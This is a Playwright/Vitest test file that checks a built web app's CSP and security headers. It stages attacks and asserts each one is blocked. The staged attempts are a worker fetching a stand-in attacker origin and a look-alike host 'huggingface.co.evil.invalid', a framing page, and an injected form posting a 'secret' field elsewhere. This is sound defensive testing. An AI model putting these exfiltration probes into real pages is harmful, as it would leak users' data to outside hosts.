// The built app (dist/, as `npm start` serves it) under its own policy: every response carries the CSP
// and security headers of src/pagePolicy.ts and index.html the matching meta tag; connect-src names
// the page's origin and exactly the Hugging Face Hub origins of src/io/hub/origins.ts (for the opt-in Hub
// download), nothing else; a session (self-check, demo load, a short training run with its charts,
// generation) raises no CSP violation, console error, page or worker error, and asks nothing of another
// origin — the Hub included, as its control is off by default; the guard does see a worker's request
// to another origin, and the policy stops it (a look-alike of a Hub host too); the app refuses to be
// framed by another origin; a form cannot post elsewhere.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Browser, chromium } from 'playwright-core';
import { type Server, createServer } from 'node:http';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { CHROMIUM_ARGS, chromiumPath } from '../helpers/chromium';
import { inlineScriptHashes, metaPolicy, securityHeaders } from '../../src/pagePolicy';
import { HUB_ORIGINS } from '../../src/io/hub/origins';
import { type BuiltApp, buildAndPreview } from './builtApp';
import { guardContext } from './pageGuard';

const LONG = 300_000;

/** Another loopback origin: records every request it gets, and serves a page that frames the app. */
function otherOrigin(appUrl: () => string): Promise<{ server: Server; origin: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    if (req.url === '/frame') {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(`<!doctype html><title>attacker</title><iframe id="app" src="${appUrl()}" width="800" height="600"></iframe>`);
      return;
    }
    res.writeHead(200, { 'Content-Type': 'text/plain' });
    res.end('stolen');
  });
  return new Promise((ok) => server.listen(0, '127.0.0.1', () => {
    const a = server.address();
    ok({ server, origin: `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`, hits });
  }));
}

describe('the built app under its page policy', () => {
  let app: BuiltApp;
  let browser: Browser;
  let other: Awaited<ReturnType<typeof otherOrigin>>;

  beforeAll(async () => {
    app = await buildAndPreview();
    // A same-origin worker that fetches whatever URL it is sent: stands for any worker code that leaks.
    await writeFile(join(app.outDir, 'probe-worker.js'), "self.onmessage = (e) => fetch(e.data).then(() => self.postMessage('fetched'), (err) => self.postMessage('failed: ' + err));\n");
    other = await otherOrigin(() => app.url);
    browser = await chromium.launch({ executablePath: chromiumPath(), args: CHROMIUM_ARGS, headless: true });
  });
  afterAll(async () => {
    await browser?.close();
    other?.server.close();
    await app?.close();
  });

  it('sends the policy headers on the page, its scripts and its workers, and the meta tag matches', async () => {
    const html = await readFile(join(app.outDir, 'index.html'), 'utf8');
    const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1].replaceAll('&#39;', "'");
    expect(meta).toBe(metaPolicy());
    expect(inlineScriptHashes(html)).toEqual([]); // nothing inline to allow
    expect(html).not.toMatch(/<style|\sstyle=/);
    const assets = [...html.matchAll(/(?:src|href)="(\/assets\/[^"]+)"/g)].map((m) => m[1]);
    const js = await (await fetch(new URL(assets.find((a) => a.endsWith('.js')) as string, app.url))).text();
    const workers = [...js.matchAll(/assets\/[\w.-]*worker[\w.-]*\.js/g)].map((m) => `/${m[0]}`);
    expect(workers.length).toBeGreaterThan(0);
    for (const path of ['/', '/index.html', ...assets, ...workers]) {
      const res = await fetch(new URL(path, app.url));
      expect(res.status, path).toBe(200);
      for (const [k, v] of Object.entries(securityHeaders('build'))) expect(res.headers.get(k), `${k} on ${path}`).toBe(v);
    }
    const csp = securityHeaders('build')['Content-Security-Policy'];
    const directives = new Map(csp.split('; ').map((d) => [d.split(' ')[0], d]));
    for (const d of ["frame-ancestors 'none'", "form-action 'none'", "worker-src 'self'", "object-src 'none'", "base-uri 'none'", "default-src 'self'", "style-src 'self'"]) {
      expect(directives.get(d.split(' ')[0])).toBe(d);
    }
    // The Hub download's origins and nothing more: huggingface.co and its storage CDNs, https, no wildcard.
    expect(directives.get('connect-src')).toBe(`connect-src 'self' ${HUB_ORIGINS.join(' ')}`);
    expect(HUB_ORIGINS[0]).toBe('https://huggingface.co');
    for (const o of HUB_ORIGINS.slice(1)) expect(o).toMatch(/^https:\/\/[a-z0-9-]+(\.[a-z0-9-]+)*\.hf\.co$/);
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|blob:|data:|\*/);
  });

  it('runs a whole session with no violation, console error, page or worker error, or outside request', { timeout: LONG }, async () => {
    const context = await browser.newContext({ viewport: { width: 1400, height: 1200 } });
    const guard = await guardContext(context, app.origin);
    const page = await context.newPage();
    await page.goto(app.url);
    // The self-check sits in the collapsed Device panel: attached, not visible, until opened.
    await page.waitForSelector('[data-testid=gflops], [role=alert]', { timeout: LONG, state: 'attached' });
    expect(await page.locator('[data-testid=device-panel] tbody tr td:last-child').allTextContents()).toEqual(['✓', '✓', '✓']);
    await page.waitForSelector('[data-testid=data-preview]', { timeout: LONG });
    await page.getByTestId('set-maxSteps').fill('2');
    await page.getByTestId('set-iterationSteps').fill('1');
    await page.getByTestId('set-seqLen').fill('16');
    await page.getByTestId('set-batchSize').fill('2');
    await page.getByTestId('train').click();
    // The charts (recharts: SVG with style props) render under style-src 'self'.
    await page.waitForFunction(() => document.querySelectorAll('[data-testid=loss-chart] .recharts-line path').length > 0, null, { timeout: LONG });
    await page.waitForFunction(() => /^done/.test(document.querySelector('[data-testid^="state-run"]')?.textContent ?? ''), null, { timeout: LONG });
    await page.getByTestId('try-generate').click();
    await page.waitForSelector('[data-testid=try-tuned]', { timeout: LONG });
    await guard.workersReady();
    expect(guard.problems).toEqual([]);
    expect(guard.outside).toEqual([]);
    await context.close();
  });

  it("sees a worker's request to another origin (and the policy stops it)", async () => {
    const context = await browser.newContext();
    const guard = await guardContext(context, app.origin);
    const page = await context.newPage();
    await page.goto(new URL('/favicon.svg', app.url).href); // same origin, none of the app's own code
    const started = page.waitForEvent('worker');
    await page.evaluate(() => { (window as unknown as { probe: Worker }).probe = new Worker('/probe-worker.js'); });
    await started;
    await guard.workersReady();
    const leak = `${other.origin}/leak-from-worker`;
    const reply = await page.evaluate((u) => new Promise<string>((ok) => {
      const w = (window as unknown as { probe: Worker }).probe;
      w.onmessage = (e) => ok(String(e.data));
      w.postMessage(u);
    }), leak);
    expect(reply).toMatch(/^failed/); // refused by connect-src in the worker
    expect(other.hits).not.toContain('GET /leak-from-worker'); // it never left the browser
    // The guard reports the attempt. Chromium raises no request event for a request its CSP blocks, so
    // here it is the worker's securitypolicyviolation (its console line arrives after the reply: poll).
    await expect.poll(() => guard.problems.join('\n'), { timeout: 10_000 }).toMatch(/securitypolicyviolation connect-src blocked http:\/\/127\.0\.0\.1:\d+\/leak-from-worker/);
    // A look-alike of a Hub host is another origin: blocked before any DNS lookup.
    const lookalike = 'https://huggingface.co.evil.invalid/leak';
    const reply2 = await page.evaluate((u) => new Promise<string>((ok) => {
      const w = (window as unknown as { probe: Worker }).probe;
      w.onmessage = (e) => ok(String(e.data));
      w.postMessage(u);
    }), lookalike);
    expect(reply2).toMatch(/^failed/);
    await expect.poll(() => guard.problems.join('\n'), { timeout: 10_000 }).toMatch(/securitypolicyviolation connect-src blocked https:\/\/huggingface\.co\.evil\.invalid\/leak/);
    await context.close();
  });

  it("sees a worker's request to another origin that no policy blocks", async () => {
    const context = await browser.newContext();
    const guard = await guardContext(context, app.origin);
    // A page and the probe worker served without the policy headers, as by a server that sends none.
    await context.route('**/probe.html', (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>probe</title>' }));
    await context.route('**/probe-worker.js', async (route) => {
      await route.fulfill({ status: 200, contentType: 'text/javascript', body: await readFile(join(app.outDir, 'probe-worker.js'), 'utf8') });
    });
    const page = await context.newPage();
    await page.goto(new URL('/probe.html', app.url).href);
    const leak = `${other.origin}/unblocked-from-worker`;
    const reply = await page.evaluate((u) => new Promise<string>((ok) => {
      const w = new Worker('/probe-worker.js');
      w.onmessage = (e) => ok(String(e.data));
      w.postMessage(u);
    }), leak);
    expect(reply).toMatch(/^(fetched|failed)/);
    expect(guard.outside).toContain(leak); // the context-level request event saw the worker's request
    await context.close();
  });

  it('refuses to be framed by another origin', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${other.origin}/frame`);
    await page.waitForTimeout(2000);
    const frame = page.frames().find((f) => f !== page.mainFrame());
    expect(frame).toBeDefined();
    // A blocked frame holds Chromium's error page: none of the app's markup, and not its URL.
    const hasApp = await frame!.evaluate(() => document.getElementById('root') !== null).catch(() => false);
    expect(hasApp).toBe(false);
    await context.close();
  });

  it('sends no form and takes no <base> elsewhere', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const violations: string[] = [];
    await context.exposeBinding('__violation', (_s, d: string) => { violations.push(d); });
    await context.addInitScript(() => document.addEventListener('securitypolicyviolation', (e) => (window as unknown as { __violation(d: string): void }).__violation(e.violatedDirective)));
    await page.goto(app.url);
    await page.waitForSelector('#root h1');
    const target = `${other.origin}/form-post`;
    await page.evaluate((t) => {
      const base = document.createElement('base');
      base.href = 'http://127.0.0.1:1/';
      document.head.prepend(base);
      const f = document.createElement('form');
      f.method = 'post';
      f.action = t;
      const i = document.createElement('input');
      i.name = 'secret';
      i.value = 'user data';
      f.append(i);
      document.body.append(f);
      f.submit();
    }, target);
    await page.waitForTimeout(1500);
    expect(other.hits).not.toContain('POST /form-post');
    expect(new URL(page.url()).origin).toBe(app.origin);
    expect(violations).toContain('form-action');
    expect(violations).toContain('base-uri');
    expect(await page.evaluate(() => document.baseURI)).toBe(app.url);
    await context.close();
  });
});
